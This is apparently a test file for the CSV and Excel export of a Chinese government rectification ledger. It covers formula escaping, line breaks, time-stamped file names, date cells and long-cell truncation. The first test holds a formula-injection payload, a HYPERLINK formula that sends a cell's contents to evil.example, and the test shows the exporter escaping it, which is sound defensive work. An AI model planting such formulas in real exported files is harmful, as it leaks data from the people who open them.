import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { EXCEL_CELL_LIMIT, exportFileName, fitExcelCell, tableToCsv, tableToXlsx } from './export-files.js';
import type { ExportTable } from './export-table.js';
import { attachmentDisposition } from './exports.controller.js';

/*
 * Imported ledgers come from outside the office (evaluators, units); the CSV export is opened in
 * Excel or WPS on leaders' desktops. A cell that would run as a formula must arrive as text.
 */
describe('CSV export', () => {
  const table = (cells: (string | number)[]): ExportTable => ({
    title: '整改台账',
    asOf: '2026-06-08',
    knownAt: null,
    columns: cells.map((_, index) => ({ header: `列${index + 1}`, width: 10 })),
    rows: [{ light: null, cells }],
  });
  const readBack = (bytes: Buffer): string[][] => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''));

  it('given cells starting with = + - @, a tab or a carriage return, writes them as text behind an apostrophe', () => {
    const [, row] = readBack(
      tableToCsv(table(['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+问题二', '-措施', '@SUM(1+1)', '\t=1+1', '\r=1+1'])),
    );
    expect(row).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+问题二", "'-措施", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"]);
  });

  it('quotes a cell holding a line break of any kind (a bare LF from the 报告 textarea or an Alt+Enter cell, a CR, CRLF), so a reader that ends a row at any of them — as Excel, WPS and Python do — keeps the row whole (breaker10h P6)', () => {
    const cells = ['一、已完成目录梳理；\n二、已更新栏目12个；\n三、建立长效机制。', '加强政务新媒体\r日常监管', '第一行\r\n第二行', '绿灯'];
    const bytes = tableToCsv(table(cells));
    const excelLike = parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { record_delimiter: ['\r\n', '\n', '\r'] });
    expect(excelLike).toEqual([['列1', '列2', '列3', '列4'], cells]);
  });

  it('keeps ordinary text and numbers, negative numbers (days overdue) included, as they are', () => {
    const [, row] = readBack(tableToCsv(table(['网上依申请公开渠道未开通', 3, -5, 'A-1', ''])));
    expect(row).toEqual(['网上依申请公开渠道未开通', '3', '-5', 'A-1', '']);
  });
});

describe('a record-time reading (knownAt) cannot be taken for the corrected ledger of the same day (breaker8b N5)', () => {
  const table: ExportTable = {
    title: '整改台账（截至 2016-06-13，按北京时间 2026-11-30 18:31:00 前已录入的记录）',
    asOf: '2016-06-13',
    knownAt: '2026-11-30T10:31:00.123Z',
    columns: [{ header: '问题', width: 10 }],
    rows: [{ light: null, cells: ['网上依申请公开渠道未开通'] }],
  };
  const readBack = (bytes: Buffer): string[][] => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });

  it('its CSV starts with the title saying which records it holds; the corrected reading has no title row', () => {
    expect(readBack(tableToCsv(table))).toEqual([[table.title], ['问题'], ['网上依申请公开渠道未开通']]);
    expect(readBack(tableToCsv({ ...table, title: '整改台账（截至 2016-06-13，含事后补录的记录）', knownAt: null }))).toEqual([['问题'], ['网上依申请公开渠道未开通']]);
  });

  it('its file name carries the instant on the office clock (Beijing time, as its title; no colons), to the millisecond when not a whole second; the corrected reading is named by the day only', () => {
    expect(exportFileName('ledger', '2016-06-13', 'csv', table.knownAt)).toBe('整改台账-2016-06-13-记录截至北京时间20261130-183100.123.csv');
    expect(exportFileName('work-plan', '2016-06-13', 'xlsx', table.knownAt)).toBe('工作方案进展-2016-06-13-记录截至北京时间20261130-183100.123.xlsx');
    expect(exportFileName('ledger', '2016-06-13', 'csv', '2026-11-30T10:31:00.000Z')).toBe('整改台账-2016-06-13-记录截至北京时间20261130-183100.csv');
    // Past midnight in Beijing, still the day before in UTC: the name says the office's day.
    expect(exportFileName('ledger', '2016-06-13', 'csv', '2026-11-30T16:05:00.000Z')).toBe('整改台账-2016-06-13-记录截至北京时间20261201-000500.csv');
    expect(exportFileName('ledger', '2016-06-13', 'csv')).toBe('整改台账-2016-06-13.csv');
  });

  it('two readings 1 ms apart, one before and one at a correction, never share a name (newcomer46 S2: both were …-154555.csv)', () => {
    const [justBefore, atCorrection] = ['2026-12-06T07:45:55.536Z', '2026-12-06T07:45:55.537Z'];
    for (const format of ['csv', 'xlsx'] as const) {
      expect(exportFileName('ledger', '2016-07-30', format, justBefore)).not.toBe(exportFileName('ledger', '2016-07-30', format, atCorrection));
      expect(attachmentDisposition('ledger', { asOf: '2016-07-30', knownAt: justBefore }, format)).not.toBe(attachmentDisposition('ledger', { asOf: '2016-07-30', knownAt: atCorrection }, format));
    }
    expect(attachmentDisposition('ledger', { asOf: '2016-07-30', knownAt: atCorrection }, 'csv')).toContain('filename="ledger-2016-07-30-recorded-by-20261206-154555.537.csv"');
  });

  it('a unit’s own download names the unit, never read as the office’s whole ledger or plan (newcomer22 S3)', () => {
    expect(exportFileName('ledger', '2026-12-02', 'xlsx', null, '青川市财政局')).toBe('整改台账-青川市财政局-2026-12-02.xlsx');
    expect(exportFileName('work-plan', '2026-12-02', 'csv', table.knownAt, '青川市财政局')).toBe('工作方案进展-青川市财政局-2026-12-02-记录截至北京时间20261130-183100.123.csv');
    // A character Windows refuses in a file name is not carried into one.
    expect(exportFileName('ledger', '2026-12-02', 'xlsx', null, '市发改委/市粮食局')).toBe('整改台账-市发改委_市粮食局-2026-12-02.xlsx');
    expect(attachmentDisposition('ledger', { asOf: '2026-12-02', knownAt: null, unitName: '青川市财政局' }, 'xlsx')).toBe(
      `attachment; filename="ledger-unit-2026-12-02.xlsx"; filename*=UTF-8''${encodeURIComponent('整改台账-青川市财政局-2026-12-02.xlsx')}`,
    );
  });
});

describe('the XLSX a leader opens in Excel (breaker8c P10, newcomer12 Q13)', () => {
  const table: ExportTable = {
    title: '整改台账（截至 2026-06-08，含事后补录的记录）',
    asOf: '2026-06-08',
    knownAt: null,
    columns: [{ header: '整改时限', width: 14, day: true }, { header: '报告日期', width: 12, day: true }, { header: '问题', width: 10 }],
    rows: [
      { light: null, cells: ['2026-05-31', '2026-05-20', '2026-05-31'] },
      { light: null, cells: ['立行立改（2026-04-01）', '', ''] },
    ],
  };

  it('writes a plain day in a day column as a date cell formatted yyyy-mm-dd, and leaves the office’s words and other columns as text', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await tableToXlsx(table, '整改台账')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('A3').value).toEqual(new Date('2026-05-31T00:00:00Z'));
    expect(sheet.getCell('A3').numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getCell('B3').value).toEqual(new Date('2026-05-20T00:00:00Z'));
    expect(sheet.getCell('C3').value).toBe('2026-05-31');
    expect(sheet.getCell('A4').value).toBe('立行立改（2026-04-01）');
    expect(sheet.getCell('B4').value).toBe('');
  });

  it('prints A4 landscape, fitted to one page wide, the title and header rows on every page (newcomer52-8 M10)', async () => {
    const bytes = await tableToXlsx(table, '整改台账');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const { pageSetup } = workbook.worksheets[0]!;
    expect(pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:2' });
    // As Excel reads it: fitToPage in the sheet's properties, the print titles a defined name.
    const zip = await JSZip.loadAsync(bytes);
    expect(await zip.file('xl/worksheets/sheet1.xml')!.async('string')).toMatch(/<pageSetUpPr[^>]*fitToPage="1"/);
    expect(await zip.file('xl/workbook.xml')!.async('string')).toMatch(/_xlnm\.Print_Titles[^>]*>(&apos;)?整改台账(&apos;)?!\$1:\$2</);
  });

  it('writes a corrected day as a date cell too, the day first entered in its note; the CSV keeps 「（原录 …）」 (newcomer52-8 M1)', async () => {
    const corrected: ExportTable = { ...table, rows: [...table.rows, { light: null, cells: ['2026-05-31', '2016-06-20（原录 2016-06-02）', '2016-06-20（原录 2016-06-02）'] }] };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await tableToXlsx(corrected, '整改台账')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('B5').value).toEqual(new Date('2016-06-20T00:00:00Z'));
    expect(sheet.getCell('B5').numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getCell('B5').note).toBe('报告日期经更正，原录 2016-06-02');
    expect(sheet.getCell('B3').note).toBeUndefined();
    // Not a day column: text as written.
    expect(sheet.getCell('C5').value).toBe('2016-06-20（原录 2016-06-02）');
    const rows: string[][] = parse(tableToCsv(corrected).toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows.at(-1)![1]).toBe('2016-06-20（原录 2016-06-02）');
  });
});

describe('a cell longer than Excel holds (breaker11s P1: 17 returns with 2,000-character reasons made a 34,271-character 退回情况 cell)', () => {
  const long = '退回理由'.repeat(9_000); // 36,000 characters
  const table: ExportTable = {
    title: '整改台账',
    asOf: '2026-06-08',
    knownAt: null,
    columns: [{ header: '问题', width: 10 }, { header: '退回情况', width: 40 }],
    rows: [{ light: null, cells: ['门户网站存在错链', long] }],
  };

  it('is cut within 32,767 characters in the XLSX and says how much was left out; shorter cells are untouched', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await tableToXlsx(table, '整改台账')) as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(3);
    const cell = String(row.getCell(2).value);
    expect(cell.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT);
    expect(cell.startsWith('退回理由退回理由')).toBe(true);
    const leftOut = Number(/余下 (\d+) 字未列出/.exec(cell)?.[1]);
    expect(cell.length - /……（超出.*$/.exec(cell)![0].length + leftOut).toBe(long.length);
    expect(row.getCell(1).value).toBe('门户网站存在错链');
  });

  it('is cut the same in the CSV, so the row stays one row', () => {
    const rows: string[][] = parse(tableToCsv(table).toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(2);
    expect(rows[1]![1]!.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT);
    expect(rows[1]![1]).toMatch(/超出 Excel 单元格 32767 字上限/);
  });

  it('never cuts a character outside the basic plane in half', () => {
    const astral = '𠀀'.repeat(20_000); // two code units each
    const cut = fitExcelCell(astral) as string;
    expect(cut.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT);
    expect(cut.replace(/……（超出.*$/, '')).toMatch(/^(?:𠀀)+$/u);
    expect(fitExcelCell('短文本')).toBe('短文本');
    expect(fitExcelCell(-3)).toBe(-3);
  });
});
